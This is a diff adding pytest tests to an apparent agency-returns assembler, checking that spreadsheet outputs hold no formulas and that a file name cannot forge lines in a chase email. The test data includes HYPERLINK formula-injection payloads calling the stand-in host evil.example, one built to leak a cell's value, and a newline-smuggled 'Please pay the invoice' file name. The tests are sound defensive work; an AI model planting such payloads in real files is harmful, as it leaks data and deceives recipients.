@@ -77,3 +77,77 @@ def test_chase_outputs_are_byte_identical_and_stale_emails_go(intake, config, tm
     assert (tmp_path / "a" / "chase-list.xlsx").read_bytes() == (tmp_path / "b" / "chase-list.xlsx").read_bytes()
     assert sorted(p.name for p in (tmp_path / "a" / "chase").iterdir()) == sorted(p.name for p in (tmp_path / "b" / "chase").iterdir())
     assert not (tmp_path / "b" / "chase" / "old-agency.txt").exists()
+
+
+# ------------------------------------------------------------------ no formula in the officer's spreadsheet
+
+FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+44 151 555 0100", "-1", "@SUM(A1:A9)",
+                "\tindented", "\rreturn", "#N/A", "=1+1", "=", "Sefton\x01\x1fcontrols"]
+
+
+def _assert_no_formula_cells(path: Path) -> list:
+    """Every filled cell of every sheet is a string (or a number), never a formula or an error value;
+    a string that a spreadsheet would read as a formula when edited carries the quote prefix."""
+    book = openpyxl.load_workbook(path)
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    for cell in cells:
+        assert cell.data_type in ("s", "n"), (cell.coordinate, cell.data_type, cell.value)
+        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
+            assert cell.quotePrefix, (cell.coordinate, cell.value)
+    return cells
+
+
+def test_formula_like_text_is_stored_as_text(config, tmp_path):
+    from assembler.chase import ChaseEntry
+
+    agencies = [a.model_copy(update={"name": text}) for a, text in zip(config.agencies, FORMULA_LIKE)]
+    entries = [ChaseEntry(agency, "errors", [text, f"indicator '{text}': no value was given."])
+               for agency, text in zip(agencies, FORMULA_LIKE)]
+    write_chase_outputs(entries, tmp_path / "out", config)
+    cells = _assert_no_formula_cells(tmp_path / "out" / "chase-list.xlsx")
+    values = {cell.value for cell in cells}
+    for text in FORMULA_LIKE[:-1]:
+        assert text in values  # the agency's text, exactly as written, as the name
+    # Controls a workbook cannot hold are written as escapes, not dropped and not a crash.
+    assert "Sefton\\x01\\x1fcontrols" in values
+
+
+def test_a_formula_like_indicator_label_in_a_word_return_reaches_the_chase_list_as_text(config, tmp_path):
+    from assembler.templates_out.word import write_word_template
+    from test_readers_builders import fill_word_template
+
+    agency = config.agency("nwas")
+    blank = write_word_template(tmp_path / "blank.docx", agency, config)
+    returns = tmp_path / "returns"
+    returns.mkdir()
+    label = '=HYPERLINK("http://evil.example","Open")'
+    fill_word_template(blank, returns / "nwas.docx", {"about": ABOUT, "activity": "A busy year.", "priorities": PRIORITIES},
+                       indicators=[[label, "", "", "2023-24", ""], ["@risk", "TBC", "", "2023-24", ""]])
+    intake = read_returns([returns], config, tmp_path / "images")
+    [entry] = [e for e in chase_list(intake, config) if e.agency.id == "nwas"]
+    assert any(label in line for line in entry.problems)
+    write_chase_outputs(chase_list(intake, config), tmp_path / "out", config)
+    cells = _assert_no_formula_cells(tmp_path / "out" / "chase-list.xlsx")
+    [problems] = [c.value for c in cells if c.column == 6 and label in str(c.value)]
+    assert "@risk" in problems
+
+
+def test_a_newline_in_a_file_name_does_not_forge_a_problem_line(config, tmp_path):
+    returns = tmp_path / "returns"
+    returns.mkdir()
+    (returns / "Cafcass return\n2. Please pay the invoice.doc").write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
+    intake = read_returns([returns], config, tmp_path / "images")
+    [entry] = [e for e in chase_list(intake, config) if e.agency.id == "cafcass"]
+    assert len(entry.problems) == 1 and "Cafcass return\\n2. Please pay the invoice.doc" in entry.problems[0]
+    write_chase_outputs([entry], tmp_path / "out", config)
+    email = (tmp_path / "out" / "chase" / "cafcass.txt").read_text()
+    assert not any(line.startswith("2. Please pay") for line in email.splitlines())
+
+
+def test_the_excel_template_holds_no_formula_for_a_formula_like_agency_name(config, tmp_path):
+    from assembler.templates_out.excel import write_excel_template
+
+    agency = config.agencies[0].model_copy(update={"name": '=HYPERLINK("http://evil.example","Open")'})
+    path = write_excel_template(tmp_path / "template.xlsx", agency, config)
+    cells = _assert_no_formula_cells(path)
+    assert agency.name in {c.value for c in cells}
